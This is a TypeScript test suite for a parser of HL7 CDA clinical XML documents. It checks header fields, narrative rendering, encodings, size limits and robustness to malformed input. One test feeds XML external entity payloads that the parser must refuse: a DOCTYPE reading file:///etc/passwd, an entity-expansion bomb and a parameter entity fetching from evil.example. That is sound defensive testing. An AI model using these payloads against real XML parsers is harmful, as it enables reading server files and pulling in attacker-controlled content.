// Doubts about reading CDA: what is shown, what is refused, what never happens.
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { Fault } from '../../base/fault.ts';
import type { Block } from './cda.ts';
import { cdaLimits, parseCda, viewCda } from './cda.ts';
import { exampleCda, unstructuredCda } from './example.ts';
import type { XmlNode } from './xml.ts';
import { isNode, readXml } from './xml.ts';

const read = (text: string) => parseCda(Buffer.from(text, 'utf8'));
const codeOf = (bytes: Uint8Array, limits = cdaLimits): string => {
  try {
    parseCda(bytes, limits);
  } catch (error) {
    assert.ok(error instanceof Fault, `threw something else than a Fault: ${String(error)}`);
    assert.equal(error.category, 'invalid');
    return error.code;
  }
  return 'read';
};
const minimal = (inside: string): string =>
  `<ClinicalDocument xmlns="urn:hl7-org:v3"><component><structuredBody><component><section><title>T</title><text>${inside}</text></section></component></structuredBody></component></ClinicalDocument>`;
const blocksOf = (inside: string): Block[] => read(minimal(inside)).sections[0]?.blocks ?? [];

describe('the head of a document', () => {
  it('gives its facts', () => {
    const { sections, attachments, remarks, ...header } = read(exampleCda);
    assert.deepEqual(header, {
      title: 'Lettre de consultation',
      code: { code: '11488-4', codeSystem: '2.16.840.1.113883.6.1', displayName: 'Consult note' },
      effectiveTime: '2026-11-03T09:45:00+01:00',
      confidentialityCode: 'R',
      language: 'fr-LU',
      id: { root: '1.2.3.4', extension: 'L-1' },
      setId: { root: '1.2.3.4', extension: 'S-1' },
      version: 2,
      relatedDocuments: [{ type: 'RPLC', id: { root: '1.2.3.4', extension: 'L-0' } }],
      patient: {
        ids: [{ root: '1.2.3.5', extension: '1893120105732' }],
        name: { text: 'Anna Müller', family: 'Müller', given: ['Anna'] },
        gender: 'F',
        birthDate: '1893-12-01',
      },
      authors: [
        {
          ids: [{ root: '1.2.3.6', extension: '90001' }],
          name: 'Dr Paul Weber',
          organisation: 'Cabinet Weber',
          time: '2026-11-03',
          isDevice: false,
        },
      ],
      custodian: { ids: [{ root: '1.2.3.7' }], name: 'Clinique du Parc' },
    });
  });

  it('is shown to a person as title, date, names, sections and the files inside', () => {
    const view = viewCda(read(exampleCda));
    assert.deepEqual(Object.keys(view), ['title', 'date', 'patient', 'author', 'custodian', 'sections', 'attachments']);
    assert.equal(view.author, 'Dr Paul Weber, Cabinet Weber');
    assert.deepEqual(
      view.sections.map((section) => section.title),
      ['Histoire', 'Image', 'Résultats', 'Vide'],
    );
  });
});

describe('the narrative', () => {
  it('becomes plain blocks', () => {
    const [history, image, results, empty] = read(exampleCda).sections;
    assert.deepEqual(history?.blocks, [
      { kind: 'paragraph', text: 'Texte nu en gras.\nSeconde ligne.' },
      { kind: 'paragraph', text: 'Tout en gras', strong: true },
      { kind: 'paragraph', text: 'Leucocytes 8,2 10⁹/L, CO₂, le 1er jour, dose 10^(9a)' },
      { kind: 'paragraph', text: 'Avant après <script> & fin' },
      { kind: 'paragraph', text: 'Voir le guide (https://example.org/guide), ceci' },
      { kind: 'paragraph', text: 'Note (en bas)' },
      { kind: 'caption', text: 'Liste' },
      {
        kind: 'list',
        ordered: true,
        items: [
          { kind: 'paragraph', text: 'Un' },
          { kind: 'paragraph', text: 'Deux' },
          { kind: 'list', ordered: false, items: [{ kind: 'paragraph', text: 'Deux bis' }] },
        ],
      },
    ]);
    assert.equal(image?.level, 2);
    assert.deepEqual(image?.blocks, [
      { kind: 'paragraph', text: '[image/png]', attachment: '1' },
      { kind: 'paragraph', text: '[media]' },
      { kind: 'caption', text: 'Radio' },
    ]);
    assert.deepEqual(results?.blocks, [
      { kind: 'caption', text: 'Sang' },
      {
        kind: 'table',
        head: [
          ['Examen', 'Valeurs', ''],
          ['', 'Jour', 'Avant'],
        ],
        rows: [
          [
            { text: 'Urée', strong: true },
            { text: '10.02', strong: true },
            { text: '8.5\nmmol/L', rowSpan: 2 },
          ],
          [{ text: '' }, { text: '• a\n• b' }],
          [{ text: 'Validé', span: 3 }],
        ],
      },
    ]);
    assert.deepEqual(empty?.blocks, []);
  });

  it('loses no word of elements that it does not know', () => {
    assert.deepEqual(blocksOf('<b>un</b> <span>deux<i>trois</i></span>'), [
      { kind: 'paragraph', text: 'un deuxtrois' },
    ]);
  });

  it('shows no control and no direction override', () => {
    assert.deepEqual(blocksOf('dose \u202e01\u202c mg &#x9b;'), [{ kind: 'paragraph', text: 'dose 01 mg' }]);
  });

  it('holds huge spans to a size that a screen can bear', () => {
    const [table] = blocksOf(
      `<table><thead>${'<tr><th colspan="999999999" rowspan="-3">x</th></tr>'.repeat(50)}</thead><tbody><tr><td colspan="1e9">y</td></tr></tbody></table>`,
    );
    assert.equal(table?.head?.[0]?.length, 100);
    assert.equal(table?.head?.[49]?.length, 1);
  });
});

describe('an unstructured document', () => {
  it('is one attachment with a note', () => {
    const document = read(unstructuredCda('application/pdf', Buffer.from('%PDF-1.7').toString('base64')));
    assert.deepEqual(document.sections, [
      { title: '', level: 1, blocks: [{ kind: 'paragraph', text: '[application/pdf]', attachment: '1' }] },
    ]);
    assert.equal(document.attachments[0]?.bytes.toString(), '%PDF-1.7');
  });

  it('is read at once when it is plain text', () => {
    const text = Buffer.from('Bonjour\r\n  en retrait\r\n\r\nFin').toString('base64');
    assert.deepEqual(read(unstructuredCda('text/plain', text)).sections[0]?.blocks, [
      { kind: 'paragraph', text: 'Bonjour\n  en retrait' },
      { kind: 'paragraph', text: 'Fin' },
    ]);
  });

  it('keeps no content type that a browser would run', () => {
    const document = read(unstructuredCda('text/html', Buffer.from('<script>').toString('base64')));
    assert.equal(document.attachments[0]?.contentType, 'application/octet-stream');
  });

  it('says when its base64 cannot be read', () => {
    const document = read(unstructuredCda('application/pdf', 'n o t - base64'));
    assert.deepEqual([document.attachments, document.remarks], [[], ['cda.attachment-unreadable']]);
  });
});

describe('encodings', () => {
  const body = (encoding: string): string =>
    `<?xml version="1.0" encoding="${encoding}"?>${minimal('Müller né à Echternach €')}`;
  const expected = [{ kind: 'paragraph', text: 'Müller né à Echternach €' }];
  const shown = (bytes: Uint8Array) => parseCda(bytes).sections[0]?.blocks;

  it('reads UTF-8 with and without byte order mark', () => {
    assert.deepEqual(shown(Buffer.from(body('UTF-8'))), expected);
    assert.deepEqual(shown(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(body('utf-8'))])), expected);
  });

  it('reads ISO-8859-1 and ISO-8859-15 by declaration', () => {
    const latin = Buffer.from(body('ISO-8859-1').replace('€', 'E'), 'latin1');
    assert.deepEqual(shown(latin), [{ kind: 'paragraph', text: 'Müller né à Echternach E' }]);
    const latin9 = Buffer.from(body('ISO-8859-15').replace('€', '\u00a4'), 'latin1');
    assert.deepEqual(shown(latin9), expected);
  });

  it('reads UTF-16 with its byte order mark', () => {
    const little = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(body('UTF-16'), 'utf16le')]);
    assert.deepEqual(shown(little), expected);
    assert.deepEqual(shown(Buffer.from(little).swap16()), expected);
  });

  it('refuses bytes that are not what they declare, and encodings that we do not read', () => {
    assert.equal(codeOf(Buffer.from(body('UTF-8'), 'latin1')), 'cda.encoding');
    assert.equal(codeOf(Buffer.from(body('UTF-7'))), 'cda.encoding');
    assert.equal(codeOf(Buffer.from(body('UTF-16'))), 'cda.encoding');
  });
});

describe('what is refused', () => {
  it('a document type, whatever it declares', () => {
    const bombs = [
      '<!DOCTYPE ClinicalDocument>',
      '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
      '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]>',
    ];
    for (const bomb of bombs) assert.equal(codeOf(Buffer.from(bomb + minimal('x'))), 'cda.doctype');
  });

  it('entities that XML itself does not know', () => {
    assert.equal(codeOf(Buffer.from(minimal('&nbsp;'))), 'cda.malformed');
  });

  it('too large, too deep, too many elements or attributes', () => {
    const tight = {
      ...cdaLimits,
      bytesMax: 5000,
      depthMax: 20,
      elementsMax: 100,
      attributesPerElementMax: 5,
      referencesMax: 10,
      narrativeCharactersMax: 2000,
    };
    assert.equal(codeOf(Buffer.from(minimal('x'.repeat(5000))), tight), 'cda.too-large');
    assert.equal(codeOf(Buffer.from(minimal('<content>'.repeat(30))), tight), 'cda.too-deep');
    assert.equal(codeOf(Buffer.from(minimal('<br/>'.repeat(200))), tight), 'cda.too-many-elements');
    assert.equal(codeOf(Buffer.from(minimal('&amp;'.repeat(11))), tight), 'cda.too-many-references');
    assert.equal(codeOf(Buffer.from(minimal('x'.repeat(2001))), tight), 'cda.too-much-text');
    assert.equal(
      codeOf(Buffer.from(minimal('<br a="" b="" c=""/>'.repeat(20))), { ...tight, attributesMax: 50 }),
      'cda.too-many-attributes',
    );
    assert.equal(codeOf(Buffer.from(minimal('<br a="" b="" c="" d="" e="" f=""/>')), tight), 'cda.too-many-attributes');
  });

  it('a document that takes longer than allowed', () => {
    let ticks = 0;
    const slow = { now: () => new Date(ticks++ * 600) };
    assert.throws(() => parseCda(Buffer.from(minimal('x'.repeat(200_000))), cdaLimits, slow), { code: 'cda.too-slow' });
  });

  it('what is not CDA, not XML, not there', () => {
    assert.equal(codeOf(Buffer.from('<html/>')), 'cda.not-a-document');
    assert.equal(codeOf(Buffer.from('<ClinicalDocument xmlns="urn:other"/>')), 'cda.not-a-document');
    assert.equal(codeOf(Buffer.from('%PDF-1.7')), 'cda.malformed');
    assert.equal(codeOf(Buffer.alloc(0)), 'cda.malformed');
    assert.equal(codeOf(Buffer.from(exampleCda.slice(0, -20))), 'cda.malformed');
  });
});

describe('hostile input', () => {
  const pieces = [
    '<',
    '>',
    '&',
    '"',
    '</text>',
    '<text>',
    '<table>',
    '<tr>',
    '<td colspan="9">',
    '<item>',
    ']]>',
    '<![CDATA[',
    '<!--',
    '\u0000',
    '&#xD800;',
    '&lt;',
    '<sup>9</sup>',
    'é',
  ];
  const change = fc.record({ at: fc.nat(exampleCda.length), cut: fc.nat(40), put: fc.constantFrom(...pieces, '') });

  it('is read or refused by a Fault, within a second', () => {
    fc.assert(
      fc.property(fc.array(change, { minLength: 1, maxLength: 4 }), (changes) => {
        let text = exampleCda;
        for (const { at, cut, put } of changes) text = text.slice(0, at) + put + text.slice(at + cut);
        const start = performance.now();
        codeOf(Buffer.from(text));
        assert.ok(performance.now() - start < 1000);
      }),
      { numRuns: 400 },
    );
  });

  it('as bytes is read or refused by a Fault', () => {
    fc.assert(
      fc.property(fc.nat(exampleCda.length - 1), fc.nat(255), (at, byte) => {
        const bytes = Buffer.from(exampleCda);
        bytes[at] = byte;
        codeOf(bytes);
      }),
      { numRuns: 400 },
    );
  });

  it('is cheap however it is built', () => {
    const shapes = [
      `<a ${'a'.repeat(3_000_000)}`,
      `<a ${Array.from({ length: 500_000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
      minimal('<content>'.repeat(90) + 'x'.repeat(1_000_000)),
      minimal('<td>'.repeat(300_000)),
      minimal('&amp;'.repeat(400_000)),
      minimal(`<table>${'<tr><td rowspan="100" colspan="100"/></tr>'.repeat(60_000)}</table>`),
      minimal(`<table><thead>${'<tr><td rowspan="100" colspan="100"/></tr>'.repeat(60_000)}</thead></table>`),
      minimal(`x${' \n'.repeat(500_000)}x`),
      minimal(`<sup>${'9'.repeat(500_000)}</sup>`.repeat(2)),
      minimal('1<sup>2x</sup>'.repeat(60_000)),
      `<?xml ${' '.repeat(2_000_000)}`,
      minimal(`<br/>${'\n<br/> '.repeat(90_000)}`),
      minimal('x '.repeat(4_000_000)),
      minimal('&amp;'.repeat(2_000_000)),
      minimal('<br a="" b="" c="" d="" e="" f="" g="" h=""/>'.repeat(90_000)),
      unstructuredCda('application/pdf', 'A B '.repeat(1_000_000)),
      unstructuredCda('text/plain', Buffer.from(`${' '.repeat(700_000)}x`.repeat(2)).toString('base64')),
      unstructuredCda('text/plain', Buffer.from(`${' \t'.repeat(400_000)}x`).toString('base64')),
      minimal('x').replace('<title>T', `<title>${'x '.repeat(4_000_000)}`),
    ];
    for (const shape of shapes) {
      const start = performance.now();
      codeOf(Buffer.from(shape));
      const milliseconds = performance.now() - start;
      assert.ok(milliseconds < 1000, `${shape.slice(0, 250)} took ${milliseconds} ms`);
    }
  });
});

const shared = new URL('../../../../shared/data/', import.meta.url);
for (const [folder, documentsMin] of [
  ['cda-fr-cisis', 46],
  ['cda-hl7-examples', 9],
] as const) {
  const from = new URL(`${folder}/`, shared);
  describe(`real documents: ${folder}`, { skip: existsSync(from) ? false : '../shared/data is not there' }, () => {
    const files = existsSync(from)
      ? readdirSync(from, { recursive: true, encoding: 'utf8' }).filter((name) => /\.xml$/i.test(name))
      : [];

    it('are all read, or refused for not being a document', () => {
      const codes = files.map((name) => codeOf(readFileSync(new URL(encodeURI(name), from))));
      assert.equal(codes.filter((code) => code === 'read').length, documentsMin);
      for (const code of codes) assert.match(code, /^(read|cda\.not-a-document|cda\.malformed)$/);
    });

    it('show every word of their narrative, and not a word more', () => {
      for (const name of files) {
        const bytes = readFileSync(new URL(encodeURI(name), from));
        if (codeOf(bytes) !== 'read') continue;
        const sections = parseCda(bytes).sections.filter(
          (section) => section.title !== '' || section.code !== undefined,
        );
        const sources = narratives(readXml(bytes, cdaLimits));
        assert.equal(
          letters(sections.map((section) => shownText(section.blocks)).join('')),
          letters(sources.join('')),
          name,
        );
      }
    });
  });
}

/** The letters and digits of a text, sorted: captions move, links and notes are added by us and left out. */
const letters = (text: string): string => [...text.normalize('NFKC').replace(/[^\p{L}\p{N}]/gu, '')].sort().join('');

const shownText = (blocks: readonly Block[]): string =>
  blocks
    .map((block) => {
      if (block.kind === 'list') return shownText(block.items ?? []);
      if (block.kind === 'table')
        return [...(block.head ?? []).flat(), ...(block.rows ?? []).flat().map((cell) => cell.text)].join('');
      return block.text;
    })
    .join('')
    .replace(/\[[a-z]+\/[a-z]+\]/g, '')
    .replace(/ \(https?:[^)]*\)/g, '');

function narratives(node: XmlNode, inSection = false): string[] {
  return node.children.filter(isNode).flatMap((child) => {
    if (child.name === 'entry') return [];
    if (inSection && child.name === 'text') return [words(child)];
    return narratives(child, child.name === 'section');
  });
}

const words = (node: XmlNode): string => node.children.map((child) => (isNode(child) ? words(child) : child)).join('');
